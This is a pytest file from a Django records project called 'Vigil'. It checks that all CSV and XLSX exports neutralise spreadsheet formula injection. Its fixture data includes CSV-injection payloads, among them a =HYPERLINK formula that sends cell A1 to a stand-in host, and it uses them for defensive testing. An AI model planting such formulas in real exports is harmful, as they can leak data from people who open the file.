"""No CSV or XLSX Vigil writes holds a live formula (OWASP "CSV injection"), by any writer."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import AnonymousUser
from openpyxl import load_workbook

from vigil.accounts.models import User
from vigil.core.context import change_context
from vigil.core.spreadsheet import csv_text, spreadsheet_text, xlsx_bytes
from vigil.opendata.writers import export_open_data
from vigil.policy.export import export
from vigil.records.models import Act, Event, Involvement, Person, Term
from vigil.reports.coverage import Coverage
from vigil.reports.figures import figure
from vigil.sanctions.gap import gap_report
from vigil.sanctions.reports import gap_csv

SRC = Path(__file__).resolve().parents[2] / "src" / "vigil"
HOSTILE = (
    '=HYPERLINK("http://x?x="&A1,"click")',
    "+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMERAL = re.compile(r"^-?\d+(\.\d+)?$")


def _live_cells(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would read as a formula (a plain numeral is a number, not one)."""
    return [c for c in cells if c.startswith(TRIGGERS) and not NUMERAL.match(c)]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _not_text(cells: list[tuple[str, object]]) -> list[tuple[str, object]]:
    """Formula cells, and filled cells that are not text (empty cells read back as "n")."""
    return [(k, v) for k, v in cells if k == "f" or (v is not None and k != "s")]


def _xlsx_cells(data: bytes) -> list[tuple[str, object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [(c.data_type, c.value) for row in sheet.iter_rows() for c in row]


@pytest.fixture
def hostile_record(db):  # type: ignore[no-untyped-def]
    """Published victims and a judge whose names are formulas, with a sentence between them."""
    with change_context("test", detail="spreadsheet writers"):
        judge = Person.objects.create(display_name=HOSTILE[0], confidentiality="public")
        for i, name in enumerate(HOSTILE):
            victim = Person.objects.create(display_name=name, confidentiality="public")
            day = dt.date(2022, 1, 1 + i)
            event = Event.objects.create(title=name, date=day, confidentiality="public")
            act = Act.objects.create(
                event=event,
                act_type_id=Term.pk_for("act_type", "sentence"),
                victim_person=victim,
                date=day,
                date_precision="day",
                sentence_months=Decimal(24),
                confidentiality="public",
            )
            Involvement.objects.create(
                act=act,
                perpetrator_person=judge,
                role_id=Term.pk_for("perpetrator_role", "judge"),
                confidentiality="public",
            )
    return judge


@pytest.fixture
def coordinator(db):  # type: ignore[no-untyped-def]
    return User.objects.create_user("fictional-coordinator", role="coordinator")


def test_spreadsheet_text_quotes_every_formula_trigger_and_leaves_other_text_alone():
    for value in HOSTILE:
        assert spreadsheet_text(value) == "'" + value
    assert spreadsheet_text("Ivanka Tsvirko") == "Ivanka Tsvirko"
    assert spreadsheet_text("a=b") == "a=b"
    assert spreadsheet_text(None) == ""
    assert spreadsheet_text(-2) == "-2"
    assert spreadsheet_text(Decimal("-1.5")) == "-1.5"


def test_list_export_csv_has_no_live_formula(hostile_record):
    result = export(AnonymousUser(), Person.objects.all(), ["display_name"], "csv")
    assert not result.encrypted
    cells = _csv_cells(result.data.decode())
    assert _live_cells(cells) == []
    assert {"'" + name for name in HOSTILE} <= set(cells)


def test_list_export_xlsx_cells_are_all_text_and_none_is_live(hostile_record):
    result = export(AnonymousUser(), Person.objects.all(), ["display_name", "id"], "xlsx")
    cells = _xlsx_cells(result.data)
    assert _not_text(cells) == []
    values = [str(v) for _, v in cells if v is not None]
    assert _live_cells(values) == []
    assert {"'" + name for name in HOSTILE} <= set(values)


def test_open_data_csv_has_no_live_formula(hostile_record, tmp_path):
    written = export_open_data(tmp_path, "csv")
    cells = [c for p in written if p.suffix == ".csv" for c in _csv_cells(p.read_text("utf-8"))]
    assert _live_cells(cells) == []
    assert "'" + HOSTILE[0] in cells


def test_open_data_json_keeps_the_values_as_they_are(hostile_record, tmp_path):
    (path,) = [p for p in export_open_data(tmp_path, "json") if p.suffix == ".json"]
    assert '"=HYPERLINK' in path.read_text("utf-8")


def test_sanctions_gap_csv_has_no_live_formula(hostile_record, coordinator):
    cells = _csv_cells(gap_csv(gap_report(coordinator)))
    assert _live_cells(cells) == []
    assert "'" + HOSTILE[0] in cells


def test_country_report_figure_csv_has_no_live_formula(hostile_record, coordinator):
    cells = _csv_cells(figure("judges", Coverage(coordinator)).to_csv())
    assert _live_cells(cells) == []
    assert "'" + HOSTILE[0] in cells


def test_xlsx_writer_never_writes_a_formula_even_for_formula_text():
    cells = _xlsx_cells(xlsx_bytes(["name"], [[v] for v in HOSTILE] + [[-2], [None]], title="t"))
    assert _not_text(cells) == []
    assert ("s", "-2") in cells
    assert _live_cells([str(v) for _, v in cells if v is not None]) == []


def test_csv_writer_quotes_formulas_in_header_and_rows():
    cells = _csv_cells(csv_text(["=cmd"], [["@SUM(A1)", 3, -4]]))
    assert cells == ["'=cmd", "'@SUM(A1)", "3", "-4"]


# A module writing CSV or XLSX itself, not through vigil.core.spreadsheet.
DIRECT_WRITER = re.compile(
    r"csv\.writer\b|csv\.DictWriter\b|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b"
    r"|\bopenpyxl\b|\bxlsxwriter\b|\bWorkbook\("
)


def test_no_module_writes_csv_or_xlsx_without_the_spreadsheet_module():
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path == SRC / "core" / "spreadsheet.py":
            continue
        for number, line in enumerate(path.read_text("utf-8").splitlines(), start=1):
            if DIRECT_WRITER.search(line):
                offenders.append(f"{path.relative_to(SRC)}:{number}: {line.strip()}")
    assert offenders == [], "write CSV/XLSX through vigil.core.spreadsheet:\n" + "\n".join(
        offenders
    )


def test_the_direct_writer_pattern_catches_the_usual_spellings():
    for line in (
        "writer = csv.writer(out)",
        "w = csv.DictWriter(handle, fieldnames=cols)",
        "from csv import writer",
        "from openpyxl import Workbook",
        "import xlsxwriter",
    ):
        assert DIRECT_WRITER.search(line), line
    assert not DIRECT_WRITER.search("reader = csv.reader(handle)")
